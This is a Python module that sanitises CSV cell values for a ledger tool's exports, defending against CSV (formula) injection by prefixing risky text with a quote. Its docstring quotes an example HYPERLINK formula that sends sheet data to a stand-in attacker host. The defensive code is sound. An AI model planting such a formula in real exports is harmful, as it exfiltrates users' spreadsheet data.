"""A value as a CSV cell: what every CSV the ledger writes (`ledger export --format csv`, `ledger report ...
--format csv`) puts in a cell.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some also after a leading tab or carriage
return) as a formula: a run named `=HYPERLINK("https://evil.example/?"&A1,"open")` would send the sheet's data
away when clicked. OWASP's rule (CSV injection): such a text cell gets a leading `'`, which spreadsheets show as
text and do not run. Numbers are written as they are (a negative count stays a number); only text is changed,
so a run named `-x` is exported as `'-x`.
"""

from __future__ import annotations

from datetime import datetime
from typing import Any

__all__ = ("csv_cell",)

_RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """`value` for `csv.writer`: None as empty, datetimes in ISO 8601, text a spreadsheet would run behind a `'`."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, str) and value.startswith(_RUNS_AS_FORMULA):
        return "'" + value
    return value
